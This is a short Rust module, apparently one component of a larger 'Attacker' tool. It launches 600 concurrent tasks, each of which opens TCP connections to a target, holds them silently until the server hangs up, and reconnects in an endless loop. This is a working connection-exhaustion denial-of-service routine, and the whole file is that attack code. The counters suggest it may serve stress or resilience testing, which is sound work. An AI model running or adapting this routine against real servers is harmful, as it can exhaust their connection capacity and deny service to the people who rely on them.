//! Connections: as many as one gets, held without a word, and ever more asked for.

use super::Attacker;
use tokio::io::AsyncReadExt;
use tokio::task::JoinSet;

const AT_ONCE: usize = 600;

pub(super) async fn attack(attacker: Attacker) {
    let mut tasks = JoinSet::new();
    for _ in 0..AT_ONCE {
        let attacker = attacker.clone();
        tasks.spawn(async move {
            loop {
                let Ok(mut stream) = attacker.connect().await else {
                    attacker.tally.refused();
                    continue;
                };
                attacker.tally.done();
                // Held until the house hangs up.
                let _ = stream.read_u8().await;
                attacker.tally.refused();
            }
        });
    }
    attacker.goes_on(tasks).await;
}
